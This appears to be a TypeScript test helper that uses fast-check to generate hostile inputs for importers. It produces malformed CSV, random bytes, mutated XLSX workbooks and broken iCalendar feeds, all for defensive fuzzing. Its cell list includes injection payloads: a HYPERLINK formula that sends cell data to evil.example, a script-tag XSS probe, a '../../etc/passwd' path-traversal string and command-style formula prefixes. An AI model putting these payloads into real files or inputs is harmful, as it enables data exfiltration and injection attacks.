/**
 * Hostile inputs for the importers: CSV text built from the connectors' own header names with nasty
 * cells (quotes, CR/LF, NUL, BOMs, formulas, impossible dates, long fields) in several encodings; raw
 * bytes; mutated XLSX workbooks; and iCalendar feeds with random recurrence rules.
 */
import fc from 'fast-check';
import { connectors, EXPORT_KINDS } from '../../../integrations/exports/connectors.ts';

export const hostileCells = [
  '',
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+44 7700 900000',
  '-2',
  '@SUM(A1)',
  '\t=cmd',
  '"',
  '""',
  'a"b',
  '\r',
  '\n',
  '\r\n',
  '\u0000',
  '\uFEFF',
  '\u202E',
  ',',
  ';',
  '31/02/2024',
  '2024-13-45',
  '00/00/0000',
  '29/02/2023',
  '1/1/1',
  '99999999999999999999',
  '1e309',
  'NaN',
  'A123456789012',
  'A12345678901Z',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'Ünïcödé 𝒳 😀',
  'x'.repeat(3000),
];

const cell = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileCells) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .date({ noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10).split('-').reverse().join('/')),
  },
);

const quote = (s: string, always: boolean) =>
  always || /[",\r\n;\t]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;

export const csvCase = fc
  .record({
    kind: fc.constantFrom(...EXPORT_KINDS),
    headerPick: fc.array(fc.nat(), { maxLength: 12 }),
    extraHeaders: fc.array(fc.string({ maxLength: 15 }), { maxLength: 3 }),
    rows: fc.array(fc.array(cell, { maxLength: 14 }), { maxLength: 12 }),
    delimiter: fc.constantFrom(',', ',', ',', ';', '\t'),
    eol: fc.constantFrom('\r\n', '\n', '\r'),
    alwaysQuote: fc.boolean(),
    encoding: fc.constantFrom('utf8', 'utf8', 'utf8-bom', 'utf16le-bom', 'latin1'),
    preamble: fc.option(fc.string({ maxLength: 60 }), { nil: undefined }),
    truncateAt: fc.option(fc.nat(), { nil: undefined }),
  })
  .map((c) => {
    const names = connectors[c.kind].fields.flatMap((f) => [f.name, ...f.synonyms]);
    const header = [...c.headerPick.map((i) => names[i % names.length]!), ...c.extraHeaders];
    const lines = [header, ...c.rows].map((r) => r.map((v) => quote(v, c.alwaysQuote)).join(c.delimiter));
    let text = (c.preamble !== undefined ? `${c.preamble}${c.eol}` : '') + lines.join(c.eol);
    if (c.truncateAt !== undefined) text = text.slice(0, c.truncateAt % (text.length + 1));
    const bytes =
      c.encoding === 'utf8'
        ? Buffer.from(text, 'utf8')
        : c.encoding === 'utf8-bom'
          ? Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')])
          : c.encoding === 'utf16le-bom'
            ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
            : Buffer.from(text, 'latin1');
    return { kind: c.kind, bytes: new Uint8Array(bytes) };
  });

export const rawBytesCase = fc.record({
  kind: fc.constantFrom(...EXPORT_KINDS),
  bytes: fc.uint8Array({ maxLength: 2000 }),
});

/** Mutations of a valid workbook: flipped bytes, truncation, spliced junk. */
export const xlsxMutation = fc.record({
  seed: fc.nat(),
  flips: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 8 }),
  truncate: fc.option(fc.nat(), { nil: undefined }),
  splice: fc.option(fc.tuple(fc.nat(), fc.uint8Array({ maxLength: 64 })), { nil: undefined }),
});

export function mutate(
  seed: Uint8Array,
  m: { flips: [number, number][]; truncate?: number; splice?: [number, Uint8Array] },
) {
  let b = Buffer.from(seed);
  for (const [at, v] of m.flips) b[at % b.length] = v;
  if (m.splice) {
    const at = m.splice[0] % (b.length + 1);
    b = Buffer.concat([b.subarray(0, at), m.splice[1], b.subarray(at)]);
  }
  if (m.truncate !== undefined) b = b.subarray(0, m.truncate % (b.length + 1));
  return new Uint8Array(b);
}

const icsDate = fc.oneof(
  fc
    .date({ min: new Date('2025-01-01'), max: new Date('2028-01-01'), noInvalidDate: true })
    .map((d) => d.toISOString().replace(/[-:]/g, '').slice(0, 15) + 'Z'),
  fc
    .date({ min: new Date('2025-01-01'), max: new Date('2028-01-01'), noInvalidDate: true })
    .map((d) => d.toISOString().replace(/-/g, '').slice(0, 8)),
  fc.constantFrom('20260230T100000Z', '99999999', 'garbage', '', '20261124T250000', '00000000T000000Z'),
);

const rrule = fc
  .record({
    freq: fc.constantFrom('SECONDLY', 'MINUTELY', 'HOURLY', 'DAILY', 'WEEKLY', 'MONTHLY', 'YEARLY', 'BOGUS'),
    interval: fc.option(fc.integer({ min: -1, max: 1000 }), { nil: undefined }),
    count: fc.option(fc.integer({ min: -1, max: 100000 }), { nil: undefined }),
    until: fc.option(icsDate, { nil: undefined }),
    byday: fc.option(fc.constantFrom('MO', 'TU,TH', '-1FR', '5SU', '53MO', 'XX'), { nil: undefined }),
    bymonthday: fc.option(fc.constantFrom('31', '30', '-1', '29', '0', '32'), { nil: undefined }),
    bymonth: fc.option(fc.constantFrom('2', '13', '1,2', '0'), { nil: undefined }),
    bysetpos: fc.option(fc.constantFrom('1', '-1', '366', '0'), { nil: undefined }),
  })
  .map((r) =>
    [
      `FREQ=${r.freq}`,
      r.interval !== undefined ? `INTERVAL=${r.interval}` : '',
      r.count !== undefined ? `COUNT=${r.count}` : '',
      r.until !== undefined ? `UNTIL=${r.until}` : '',
      r.byday ? `BYDAY=${r.byday}` : '',
      r.bymonthday ? `BYMONTHDAY=${r.bymonthday}` : '',
      r.bymonth ? `BYMONTH=${r.bymonth}` : '',
      r.bysetpos ? `BYSETPOS=${r.bysetpos}` : '',
    ]
      .filter(Boolean)
      .join(';'),
  );

const vevent = fc
  .record({
    uid: fc.oneof(fc.constantFrom('a', 'b', 'c'), fc.string({ maxLength: 10 })),
    start: icsDate,
    end: fc.option(icsDate, { nil: undefined }),
    duration: fc.option(fc.constantFrom('PT1H', 'P1D', '-PT1H', 'P', 'PT99999999H'), { nil: undefined }),
    rrule: fc.option(rrule, { nil: undefined }),
    exdate: fc.option(icsDate, { nil: undefined }),
    rid: fc.option(icsDate, { nil: undefined }),
    summary: fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom(...hostileCells)),
    tz: fc.option(fc.constantFrom('Europe/London', 'Mars/Olympus', 'GMT Standard Time'), { nil: undefined }),
    status: fc.option(fc.constantFrom('CANCELLED', 'CONFIRMED', 'x'), { nil: undefined }),
    attendee: fc.option(fc.string({ maxLength: 30 }), { nil: undefined }),
    junk: fc.option(fc.string({ maxLength: 40 }), { nil: undefined }),
  })
  .map((e) =>
    [
      'BEGIN:VEVENT',
      `UID:${e.uid}`,
      `DTSTART${e.tz ? `;TZID=${e.tz}` : ''}:${e.start}`,
      e.end !== undefined ? `DTEND:${e.end}` : '',
      e.duration ? `DURATION:${e.duration}` : '',
      e.rrule ? `RRULE:${e.rrule}` : '',
      e.exdate ? `EXDATE:${e.exdate}` : '',
      e.rid ? `RECURRENCE-ID:${e.rid}` : '',
      `SUMMARY:${e.summary.replace(/\r?\n/g, '\\n')}`,
      e.status ? `STATUS:${e.status}` : '',
      e.attendee !== undefined ? `ATTENDEE;CN=x:mailto:${e.attendee}` : '',
      e.junk ?? '',
      'END:VEVENT',
    ]
      .filter(Boolean)
      .join('\r\n'),
  );

export const icsCase = fc.oneof(
  {
    weight: 5,
    arbitrary: fc
      .array(vevent, { maxLength: 5 })
      .map((evs) => ['BEGIN:VCALENDAR', 'VERSION:2.0', ...evs, 'END:VCALENDAR'].join('\r\n')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.array(vevent, { maxLength: 3 }), fc.nat(), fc.string({ maxLength: 30 }))
      .map(([evs, at, junk]) => {
        const t = ['BEGIN:VCALENDAR', ...evs, 'END:VCALENDAR'].join('\r\n');
        const i = at % (t.length + 1);
        return `${t.slice(0, i)}${junk}${t.slice(i)}`;
      }),
  },
  {
    weight: 1,
    arbitrary: fc.string({ maxLength: 300 }).map((s) => `BEGIN:VCALENDAR\r\n${s}\r\nEND:VCALENDAR`),
  },
);
